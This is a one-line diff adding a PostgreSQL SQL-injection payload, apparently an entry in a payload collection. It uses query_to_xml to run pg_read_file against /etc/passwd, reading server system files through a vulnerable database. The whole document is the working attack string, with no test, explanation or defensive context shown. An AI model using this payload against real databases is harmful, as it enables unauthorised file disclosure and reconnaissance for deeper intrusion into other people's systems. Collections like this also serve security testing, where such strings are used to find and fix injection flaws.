@@ -1,0 +1,1 @@
+SELECT query_to_xml('SELECT pg_read_file(''/etc/passwd'')', true, true, '')
